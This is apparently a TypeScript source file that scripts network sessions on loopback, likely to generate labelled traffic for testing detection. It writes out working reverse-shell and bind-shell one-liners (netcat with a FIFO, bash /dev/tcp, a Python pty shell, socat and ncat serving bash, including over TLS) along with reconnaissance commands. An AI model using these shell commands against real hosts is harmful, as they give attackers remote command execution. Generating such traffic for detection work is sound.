import type { Attack } from './attack.js'

/** sshd that lets nobody in, started where it may confine its unprivileged half. */
const SSHD = (address: string, more: string) => `ssh-keygen -q -t ed25519 -N '' -f host-${address}
printf 'ListenAddress ${address}:53\\nHostKey %s/host-${address}\\nPidFile none\\nUsePAM no\\nPasswordAuthentication no\\n${more}' "$PWD" > ${address}.conf
mount -t tmpfs tmpfs /run && mkdir -m 755 /run/sshd && exec "$(command -v sshd)" -D -e -f "$PWD/${address}.conf"`

const SSH =
  'ssh -F none -p 53 -o BatchMode=yes -o IdentityFile=none -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null'

/** Commands of somebody at a prompt that was not meant for them. */
const TYPED = [
  'id',
  'whoami',
  'uname -a',
  'ls -la',
  'cat /etc/hostname',
  'pwd',
  'ip a',
  'ps',
  'env',
  'w',
  'df -h',
  'last',
]
const type = (command: string) => `sleep 0.1; echo '${command}'; sleep 0.2; echo exit; sleep 0.2`

/** Shells and remote logins, encrypted and not. */
export const SHELLS: readonly Attack[] = [
  {
    name: 'openssh',
    holds: 'key exchanges under several ciphers, with two server banners',
    programs: ['sshd', 'ssh', 'ssh-keygen'],
    acts: [
      {
        servers: [SSHD('127.0.0.1', ''), SSHD('127.0.0.2', 'VersionAddendum Example-Gateway\\n')],
        clients: `for round in 1 2 3 4; do for cipher in aes128-ctr aes256-gcm@openssh.com chacha20-poly1305@openssh.com; do
for host in 127.0.0.1 127.0.0.2; do ${SSH} -c $cipher guest@$host true; done; done; done`,
        expected: /Permission denied/,
      },
    ],
  },
  {
    name: 'dropbear',
    holds: 'key exchanges of Dropbear client and server',
    programs: ['dropbear', 'dbclient'],
    acts: [
      {
        servers: ['exec dropbear -F -E -R -s -p 127.0.0.1:53 -P none -r /nonexistent'],
        clients: 'for round in $(seq 1 15); do dbclient -y -y -p 53 guest@127.0.0.1 true </dev/null; done',
      },
    ],
  },
  {
    name: 'mosh',
    holds: 'Mosh datagrams, encrypted from the first',
    programs: ['mosh-server', 'mosh-client', 'script'],
    acts: [
      {
        clients: `export LANG=C.UTF-8 LC_ALL=C.UTF-8 TERM=xterm
for round in 1 2 3 4; do
key=$(mosh-server new -i 127.0.0.$round -p 53 -- sleep 3 </dev/null | sed -n 's/MOSH CONNECT 53 //p'); echo "key$key"
(sleep 1; echo id; sleep 0.5) | MOSH_KEY=$key timeout 3 script -qc "stty rows 24 cols 80; mosh-client 127.0.0.$round 53" /dev/null
done`,
        expected: /key\S{22}/,
      },
    ],
  },
  {
    name: 'reverse-shell-nc',
    holds: 'bash over netcat: prompt and output one way, typed commands the other',
    programs: ['nc', 'bash'],
    acts: [
      {
        clients: TYPED.map(
          (command, index) => `(${type(command)}) | nc -nlp 53 -s 127.0.0.${index + 1} >/dev/null 2>&1 &
bound 1; rm -f pipe; mkfifo pipe; bash ${index % 2 ? '-i' : ''} <pipe 2>&1 | timeout 3 nc -n 127.0.0.${index + 1} 53 >pipe; wait`,
        ).join('\n'),
      },
    ],
  },
  {
    name: 'reverse-shell-bash',
    holds: "bash's own /dev/tcp as a reverse shell",
    programs: ['nc', 'bash'],
    acts: [
      {
        clients: TYPED.map(
          (command, index) => `(${type(command)}) | nc -nlp 53 -s 127.0.0.${index + 1} >/dev/null 2>&1 &
bound 1; timeout 3 bash -c 'bash -i >& /dev/tcp/127.0.0.${index + 1}/53 0>&1'; wait`,
        ).join('\n'),
      },
    ],
  },
  {
    name: 'reverse-shell-python',
    holds: 'a Python reverse shell with a terminal of its own',
    programs: ['nc', 'bash', 'python3'],
    acts: [
      {
        clients: TYPED.map(
          (command, index) => `(${type(command)}) | nc -nlp 53 -s 127.0.0.${index + 1} >/dev/null 2>&1 &
bound 1; TERM=xterm timeout 3 python3 -c 'import os,pty,socket
s=socket.create_connection(("127.0.0.${index + 1}",53))
for n in 0,1,2: os.dup2(s.fileno(),n)
pty.spawn("${index % 2 ? '/bin/sh' : '/bin/bash'}")'; wait`,
        ).join('\n'),
      },
    ],
  },
  {
    name: 'bind-shell-socat',
    holds: 'shells that socat serves, plain, on a terminal, and over UDP',
    programs: ['socat', 'bash', 'nc'],
    acts: [
      {
        servers: [
          "exec socat TCP-LISTEN:53,bind=127.0.0.1,fork,reuseaddr 'EXEC:bash -i,stderr'",
          "exec socat TCP-LISTEN:53,bind=127.0.0.2,fork,reuseaddr 'EXEC:bash -li,pty,stderr,setsid,sigint'",
          "exec socat UDP-LISTEN:53,bind=127.0.0.3,fork 'EXEC:sh,pty,stderr'",
        ],
        clients: TYPED.map(
          (
            command,
          ) => `for host in 127.0.0.1 127.0.0.2; do (${type(command)}) | timeout 3 nc -n $host 53; done
(${type(command)}) | timeout 1 nc -nu 127.0.0.3 53`,
        ).join('\n'),
        expected: /uid=0/,
      },
    ],
  },
  {
    name: 'shell-over-tls',
    holds: 'shells inside TLS: socat OpenSSL and ncat --ssl',
    programs: ['socat', 'bash', 'ncat', 'openssl'],
    acts: [
      {
        servers: [
          "certificate; exec socat OPENSSL-LISTEN:53,bind=127.0.0.1,cert=cert.pem,key=key.pem,verify=0,fork,reuseaddr 'EXEC:bash -i,stderr'",
          'sleep 1; exec ncat --ssl --ssl-cert cert.pem --ssl-key key.pem -l 127.0.0.2 53 -k -e /bin/bash',
        ],
        clients: TYPED.map(
          (command) => `(${type(command)}) | timeout 3 socat - OPENSSL:127.0.0.1:53,verify=0
(${type(command)}) | timeout 3 ncat --ssl 127.0.0.2 53`,
        ).join('\n'),
        expected: /uid=0/,
      },
    ],
  },
  {
    name: 'netcat-chat',
    holds: 'people who write to each other through netcat, over TCP and UDP',
    programs: ['nc', 'ncat'],
    acts: [
      {
        clients: `number=0
while read -r said answered; do number=$((number + 1))
echo "$answered" | tr _ ' ' | timeout 2 nc -nlp 53 -s 127.0.0.$number -q 1 >/dev/null 2>&1 &
bound 1; echo "$said" | tr _ ' ' | timeout 2 nc -n -q 1 127.0.0.$number 53; wait
(sleep 0.2; echo "$answered" | tr _ ' ') | timeout 1 ncat -u -l 127.0.0.$number 53 >/dev/null 2>&1 &
bound 1; echo "$said" | tr _ ' ' | timeout 0.8 nc -nu 127.0.0.$number 53; wait
done <<END
hello_there,_anybody_in? yes,_who_is_asking
are_you_up? one_moment_please
GET_OUT_OF_THERE Understood.
the_file_is_ready send_it_over_now
1234567890 0987654321
meet_at_noon_tomorrow ok_see_you_there
user=admin;pass=secret login_accepted
{"cmd":"status","id":17} {"ok":true,"load":0.4}
<ping_id='4'/> <pong_id='4'/>
beacon_000001 nothing_to_do
###BEGIN###_payload_###END### ACK_000017
AUTH_7f3a9c2e OK_session_88
VGhlIHF1aWNrIGJyb3duIGZveA== anVtcHMgb3ZlciB0aGUgZG9n
\\x41\\x42_escaped_text C:\\\\Users\\\\Public>
END`,
      },
    ],
  },
]
